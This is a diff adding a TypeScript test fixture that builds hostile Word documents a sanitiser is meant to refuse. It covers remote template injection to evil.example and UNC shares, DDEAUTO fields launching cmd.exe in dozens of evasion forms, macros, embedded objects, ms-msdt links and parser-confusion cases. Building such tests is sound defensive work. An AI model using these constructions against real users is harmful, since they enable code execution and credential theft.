@@ -1,0 +1,298 @@
+import { withChart } from './honest-documents.ts';
+import {
+  code,
+  contentTypesPart,
+  external,
+  field,
+  inRun,
+  mark,
+  override,
+  relationship,
+  relationshipsPart,
+  run,
+  strict,
+  typeOf,
+  wordArchive,
+  wordDocument,
+  wordPart,
+  wordType,
+} from './word-document.ts';
+
+const template = (target: string, mode = external) => relationshipsPart(relationship('attachedTemplate', target, mode));
+const remote = 'https://evil.example/x.dotm';
+/** A document whose settings have these relationships. */
+const withSettings = (relationships: string | Uint8Array, name = 'word/_rels/settings.xml.rels') =>
+  wordDocument({ parts: { 'word/settings.xml': wordPart('settings', ''), [name]: relationships } });
+const related = (type: string, target: string, mode = external) =>
+  wordDocument({ relationships: relationship(type, target, mode) });
+const withBody = (...runs: string[]) => wordDocument({ body: `<w:p>${runs.join('')}</w:p>` });
+const withField = (...codes: string[]) => withBody(field(codes.map((text) => code(text)).join('')));
+const withPart = (name: string, content: string | Uint8Array, type?: string) =>
+  wordDocument({ types: type && override(`/${name}`, type), parts: { [name]: content } });
+const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
+const ddeField = `<w:p>${field(code(dde))}</w:p>`;
+const utf16 = (text: string, bigEndian = false) => {
+  const bytes = Buffer.from(`\ufeff${text.replace('UTF-8', 'UTF-16')}`, 'utf16le');
+  return bigEndian ? bytes.swap16() : bytes;
+};
+
+/** Templates and other content that is fetched, written so that a check could overlook it. */
+const fetched: [name: string, bytes: Buffer][] = [
+  ['an external template', withSettings(template(remote))],
+  ['`>` in an attribute value', withSettings(template(remote).replace('<Relationship Id', '<Relationship x=">" Id'))],
+  ['`.RELS` in capitals', withSettings(template(remote), 'word/_rels/settings.xml.RELS')],
+  ['a folder in capitals', withSettings(template(remote), 'WORD/_RELS/Settings.xml.Rels')],
+  ['a percent-encoded part name', withSettings(template(remote), 'word/_rels/settings.xml%2Erels')],
+  ['a backslash in a part name', withSettings(template(remote), 'word\\_rels\\settings.xml.rels')],
+  ['single quotes', withSettings(template(remote).replace(/"/g, "'"))],
+  ['character references', withSettings(template('&#x68;ttps:&#47;/evil.example').replace('External', '&#69;xternal'))],
+  [
+    'a namespace prefix',
+    withSettings(
+      template(remote)
+        .replace(/<(\/?)R/g, '<$1p:R')
+        .replace('xmlns=', 'xmlns:p='),
+    ),
+  ],
+  [
+    'line breaks in a tag',
+    withSettings(
+      template(remote)
+        .replace(/ (T|I)/g, '\r\n\t$1')
+        .replace('/>', '\n/>'),
+    ),
+  ],
+  ['UTF-16', withSettings(utf16(template(remote)))],
+  ['UTF-16 with big ends', withSettings(utf16(template(remote), true))],
+  ['the strict format', related(`${strict}/attachedTemplate`, remote)],
+  ['another edition of the format', related('http://schemas.example/2099/attachedTemplate', remote)],
+  ['the mode in another case', withSettings(template(remote, ' TargetMode="EXTERNAL"'))],
+  ['no mode', withSettings(template(remote, ''))],
+  ['a template in the package', withSettings(template('template.dotm', ''))],
+  ['relationships of another part', related('attachedTemplate', remote)],
+  ['a template on a network', withSettings(template('file://host/share/x.dotm'))],
+  ['a template on a network, in a local form', withSettings(template('file:///\\\\host\\share\\x.dotm'))],
+  ['a template on a network, with many slashes', withSettings(template('file://///host/share/x.dotm'))],
+  ['a template on a network, percent-encoded', withSettings(template('file:%5c%5chost/share/x.dotm'))],
+  ['a template on a network, as a path', withSettings(template('\\\\host\\share\\x.dotm'))],
+  ['a template on a network, as a path with slashes', withSettings(template('//host/share/x.dotm'))],
+  ['a template on a computer named by its address', withSettings(template('file:///203.0.113.1/share/x.dotm'))],
+  ['a template by WebDAV', withSettings(template('file:///host@SSL/share/x.dotm'))],
+  ['a template at a relative place', withSettings(template('x.dotm'))],
+  ['a picture on a network', related('image', 'file://host/share/logo.png')],
+  ['a picture on a network, as a path', related('image', '\\\\host\\share\\logo.png')],
+  ['a picture with a line break in its scheme', related('image', 'fi&#10;le://host/share/logo.png')],
+  ['a picture with a scheme of programs', related('image', 'ms-word:x')],
+  ['a picture in an archive', related('image', 'mhtml:https://evil.example/x!y')],
+  ['an image in VML without relationship', withBody(inRun('<w:pict><v:imagedata src="\\\\host\\x.png"/></w:pict>'))],
+  ['a fill in VML without relationship', withBody(inRun('<w:pict><v:fill o:althref="file://host/x"/></w:pict>'))],
+  ['a frame', related('frame', 'https://evil.example/')],
+  ['a document in parts', related('subDocument', 'file:///C:\\x.docx')],
+  ['an imported document', related('aFChunk', 'https://evil.example/')],
+  ['an object from outside', related('oleObject', 'mhtml:https://evil.example/x.html!x-usc:')],
+  ['a video', related('video', 'https://evil.example/')],
+  ['a stylesheet from outside', related('transform', 'https://evil.example/x.xsl')],
+  ['an unknown relationship from outside', related('http://schemas.example/unknown', 'https://evil.example/')],
+  ['the source of a mail merge', related('mailMergeSource', 'file:///C:\\x.xlsx')],
+  [
+    'the connection of a mail merge',
+    withPart('word/settings.xml', wordPart('settings', '<w:mailMerge><w:connectString w:val="x"/></w:mailMerge>')),
+  ],
+  ['a link that runs a script', related('hyperlink', 'java&#9;script:alert(1)')],
+  ['a link that starts a program', related('hyperlink', 'ms-msdt:/id x')],
+];
+
+/** Programs and embedded documents. */
+const embedded: [name: string, bytes: Buffer][] = [
+  ['macros', withPart('word/vbaProject.bin', 'x')],
+  ['macros, in another case', withPart('word/VBAPROJECT.BIN', 'x')],
+  ['macros, percent-encoded', withPart('word/vba%50roject.bin', 'x')],
+  ['macros by type', withPart('word/a', 'x', 'application/vnd.ms-office.vbaProject')],
+  ['macros by type, in another case', withPart('word/a', 'x', 'APPLICATION/vnd.ms-office.VBAPROJECT')],
+  [
+    'macros by extension',
+    wordDocument({
+      types: '<Default ContentType=\'application/vnd.ms-office.vbaProject\' x=">" Extension="PIC"/>',
+      parts: { 'word/a.pic': 'x' },
+    }),
+  ],
+  ['macros by relationship', related('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'a', '')],
+  ['a control', related('control', 'a.xml', '')],
+  ['a control by name', withPart('word/activeX/activeX1.xml', '<a/>')],
+  ['an embedded object', related('oleObject', 'a.bin', '')],
+  ['an embedded workbook', related('package', 'embeddings/a.xlsx', '')],
+  ['an embedded file without relationship', withPart('word/embeddings/a.docx', 'x')],
+  [
+    'an imported part',
+    wordDocument({ relationships: relationship('aFChunk', 'a.docx'), parts: { 'word/a.docx': 'x' } }),
+  ],
+  ['a ribbon of its own', related('http://schemas.microsoft.com/office/2007/relationships/ui/extensibility', 'a', '')],
+  ['an add-in', related('http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes', 'a', '')],
+  ['an embedded workbook of a document among the charts', embeddedAmongCharts()],
+  ['a workbook of a chart that is none', withChart({ workbook: Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1', 'latin1') })],
+  ['a program by its properties', withPart('docProps/custom.xml', '<P><property name="_AssemblyLocation"/></P>')],
+  ['an online video', withBody(inRun('<x:webVideoPr xmlns:x="x" embeddedHtml="&lt;iframe&gt;"/>'))],
+];
+
+/** A document that lies among the charts and embeds a workbook. */
+function embeddedAmongCharts(): Buffer {
+  return wordArchive({
+    '[Content_Types].xml': contentTypesPart(
+      `<Default Extension="xlsx" ContentType="${typeOf('spreadsheetml.sheet')}"/>`,
+      '/word/charts/document.xml',
+    ),
+    '_rels/.rels': relationshipsPart(relationship('officeDocument', 'word/charts/document.xml')),
+    'word/charts/document.xml': wordPart('document', '<w:body/>'),
+    'word/charts/_rels/document.xml.rels': relationshipsPart(relationship('package', '../embeddings/a.xlsx')),
+    'word/embeddings/a.xlsx': wordArchive({ 'xl/workbook.xml': '<x/>' }),
+  });
+}
+
+const alternative = (choice: string, fallback: string) =>
+  `<mc:AlternateContent><mc:Choice Requires="x">${choice}</mc:Choice><mc:Fallback>${fallback}</mc:Fallback></mc:AlternateContent>`;
+
+/** Fields that start a program or fetch something, written so that a check could overlook them. */
+const fields: [name: string, bytes: Buffer][] = [
+  ['DDE', withField(` ${dde} `)],
+  ['DDE in another case', withField(' DdE x y')],
+  ['DDE over runs', withField(' D', 'DE', 'AU', 'TO x y')],
+  [
+    'DDE over paragraphs',
+    wordDocument({ body: `<w:p>${mark('begin')}${code('DDE')}</w:p><w:p>${code('x')}${mark('end')}</w:p>` }),
+  ],
+  ['DDE without separator', withBody(mark('begin'), code('DDE x'), mark('end'))],
+  ['DDE that never ends', withBody(mark('begin'), code('DDE'))],
+  ['DDE outside of any field', withBody(code('DDE x'))],
+  ['DDE as a simple field', withBody('<w:fldSimple w:instr=" DDE x"/>')],
+  ['DDE with character references', withField('&#68;&#x44;E x')],
+  ['DDE in a CDATA section', withField('<![CDATA[DDE x]]>')],
+  ['DDE with a comment inside', withField('D<!-- -->DE x')],
+  ['DDE as a text', withBody(mark('begin'), run('DDE x'), mark('separate'), mark('end'))],
+  [
+    'DDE partly deleted',
+    withBody(
+      mark('begin'),
+      code('DD'),
+      `<w:del>${inRun('<w:delInstrText>X</w:delInstrText>')}</w:del>`,
+      code('E x'),
+      mark('end'),
+    ),
+  ],
+  [
+    'DDE with a deleted separator',
+    withBody(mark('begin'), code('D'), `<w:del>${mark('separate')}</w:del>`, code('DE x'), mark('end')),
+  ],
+  ['DDE with invisible characters', withField('D\u00adD\u200bE x')],
+  ['DDE after quotation marks', withField(' "DDE" x')],
+  ['DDE after a thousand blanks', withField(' '.repeat(100_000), 'DDE x')],
+  [
+    'DDE after another field',
+    withField(' PAGE ', `</w:instrText></w:r>${mark('separate')}${mark('end')}${mark('begin')}<w:r><w:instrText>DDE`),
+  ],
+  ['DDE inside another field', withBody(field(code(' QUOTE ') + field(code(dde))))],
+  [
+    'DDE in the result of another field',
+    withBody(mark('begin'), code(' QUOTE '), mark('separate'), field(code(dde)), mark('end')),
+  ],
+  ['the name from another field', withBody(field(field(code('QUOTE 68 68 69')) + code(' x y')))],
+  ['the rest of the name from another field', withBody(field(code('D') + field(code('QUOTE 68 69')) + code(' x y')))],
+  ['the name from alternatives', withBody(field(code('D') + alternative(code('X'), code('DE')) + code(' x')))],
+  ['a field that begins in an alternative', withBody(alternative(mark('begin'), run('x')), code('D'), code('DE'))],
+  ['a part of the name that Word ignores', withBody(field(code('D') + `<w14:x>${code('X')}</w14:x>` + code('DE x')))],
+  ['a text with another prefix', withBody(field(`<x:r xmlns:x="w"><x:t>D</x:t></x:r>${code('DE x')}`))],
+  [
+    'the prefix of another vocabulary',
+    withBody(field(`${code('D')}<w:r xmlns:w="x"><w:instrText>X</w:instrText></w:r>${code('DE')}`)),
+  ],
+  [
+    'DDE in a text box',
+    withBody(inRun(`<w:pict><v:textbox><w:txbxContent>${ddeField}</w:txbxContent></v:textbox></w:pict>`)),
+  ],
+  [
+    'DDE around a text box',
+    withBody(
+      field(
+        code('D') +
+          inRun(`<w:pict><v:textbox><w:txbxContent><w:p>${mark('end')}</w:p></w:txbxContent></v:textbox></w:pict>`) +
+          code('DE x'),
+      ),
+    ),
+  ],
+  ['DDE in a header', withPart('word/header1.xml', wordPart('hdr', ddeField), `${wordType}header+xml`)],
+  ['DDE in a comment', withPart('word/comments.xml', wordPart('comments', `<w:comment>${ddeField}</w:comment>`))],
+  ['DDE in footnotes', withPart('word/footnotes.xml', wordPart('footnotes', `<w:footnote>${ddeField}</w:footnote>`))],
+  ['DDE in the glossary', withPart('word/glossary/document.xml', wordPart('glossaryDocument', ddeField))],
+  ['DDE in a part with another name', withPart('word/picture.bin', wordPart('hdr', ddeField), `${wordType}header+xml`)],
+  ['DDE in a part that claims to be a picture', withPart('word/picture.png', wordPart('hdr', ddeField))],
+  ['DDE after much white space', withPart('word/a.bin', `${' '.repeat(1000)}<w:hdr>${ddeField}</w:hdr>`)],
+  [
+    'DDE without namespace prefix',
+    withPart('word/header1.xml', wordPart('hdr', ddeField).replace(/(<\/?|\s)w:/g, '$1')),
+  ],
+  ['DDE in UTF-16', withPart('word/header1.xml', utf16(wordPart('hdr', ddeField)))],
+  ['a linked object', withField(' LINK Excel.Sheet.12 "C:\\\\x.xlsx" "a" \\a')],
+  ['an embedded object', withField(' EMBED Package ')],
+  ['a database', withField(' DATABASE \\d "C:\\\\x.mdb" \\s "SELECT 1"')],
+  ['commands for a printer', withField(' PRINT 27"E"')],
+  ['a control', withField(' CONTROL Forms.HTML:Hidden.1 \\s')],
+  ['a text on a network', withField(' INCLUDETEXT "\\\\\\\\host\\\\share\\\\x.docx" ')],
+  ['a text on a network, with single backslashes', withField(' INCLUDETEXT \\\\host\\share\\x.docx')],
+  ['a text on the web', withField(' INCLUDETEXT "https://evil.example/x" ')],
+  ['a text named by another field', withBody(field(code(' INCLUDETEXT "') + field(code('QUOTE x')) + code('"')))],
+  ['a picture on the web', withField(' INCLUDEPICTURE ', '\\d ', '"http://', 'evil.example/x"')],
+  ['a picture on a network', withField(' INCLUDEPICTURE "file://host/x.png" \\* MERGEFORMAT')],
+  ['a picture on a network, by the older name', withField(' IMPORT "\\\\\\\\host\\\\x.png"')],
+  ['a referenced document on a network', withField(' RD "\\\\\\\\host\\\\x.docx"')],
+  ['a text with a very long name', withField(` INCLUDETEXT "C:\\\\${'x'.repeat(5000)}"`)],
+];
+
+/** Documents that programs could read differently from each other, or that exceed a limit. */
+const unclear: [name: string, bytes: Buffer][] = [
+  ['names that differ in case only', withPart('WORD/document.xml', wordPart('document', ''))],
+  ['names that differ in encoding only', withPart('word/%64ocument.xml', wordPart('document', ''))],
+  ['two lists of content types', withPart('[content_types].xml', contentTypesPart())],
+  ['two types of a part', wordDocument({ types: override('/Word/Document.xml', 'text/plain') })],
+  [
+    'two main parts',
+    wordDocument({
+      parts: {
+        '_rels/.rels': relationshipsPart(
+          relationship('officeDocument', 'word/document.xml') + relationship(`${strict}/officeDocument`, 'a.xml'),
+        ),
+      },
+    }),
+  ],
+  ['a part in pieces', withSettings(template(remote), 'word/_rels/settings.xml.rels/[0].last.piece')],
+  ['relationships in a part with another name', withPart('word/a.xml', template(remote))],
+  ['a base for targets', withSettings(template('x').replace('<Relationship ', '<Relationship xml:base="//host/" '))],
+  ['a document type', withPart('word/header1.xml', `<!DOCTYPE x [<!ENTITY e "DDE">]>${wordPart('hdr', '').slice(56)}`)],
+  ['an entity', withPart('word/header1.xml', '<a>&e;</a>')],
+  ['an unclosed element', withPart('word/header1.xml', '<a><b></a>')],
+  ['an attribute that stands twice', withSettings(template(remote).replace('Target=', 'Target="a" Target='))],
+  ['UTF-7', withPart('word/header1.xml', '<?xml version="1.0" encoding="UTF-7"?><a>+ADw-w:instrText+AD4-DDE</a>')],
+  ['UTF-16 without mark', withPart('word/header1.xml', utf16('<a/>').subarray(2))],
+  ['XML 1.1', withPart('word/header1.xml', '<?xml version="1.1"?><a/>')],
+  ['bytes that are no UTF-8', withPart('word/header1.xml', Buffer.from('<a>\xc0\xbc</a>', 'latin1'))],
+  ['another name before its content', withOtherLocalName()],
+  ['a part that is not XML', withPart('word/header1.xml', 'x')],
+  ['elements 600 deep', withPart('word/header1.xml', '<a>'.repeat(600) + '</a>'.repeat(600))],
+  [
+    '1,001 attributes',
+    withPart('word/header1.xml', `<a ${Array.from({ length: 1001 }, (_, i) => `a${i}=""`).join(' ')}/>`),
+  ],
+  ['an attribute of 2 MB', withPart('word/header1.xml', `<a b="${'x'.repeat(2_000_000)}"/>`)],
+  ['an entity of 2 MB', withPart('word/header1.xml', `<a>&${'x'.repeat(2_000_000)}`)],
+  ['101 fields inside each other', withBody((mark('begin') + code('QUOTE ')).repeat(101))],
+  ['relationships of 5 MB', withSettings(relationshipsPart(relationship('a', 'x'.repeat(900_000), '').repeat(6)))],
+  ['20,001 relationships', withSettings(relationshipsPart('<Relationship Type="a" Target="b"/>'.repeat(20_001)))],
+];
+
+/** A document in whose archive the directory and the header of a part have different names. */
+function withOtherLocalName(): Buffer {
+  const bytes = withPart('word/harmless.bin', 'x');
+  bytes.write('word/settings', bytes.indexOf('word/harmless.bin'), 'latin1');
+  return bytes;
+}
+
+/** Word documents that are refused, with the ways in which they could pass a check. */
+export const hostileDocuments = { fetched, embedded, fields, unclear };
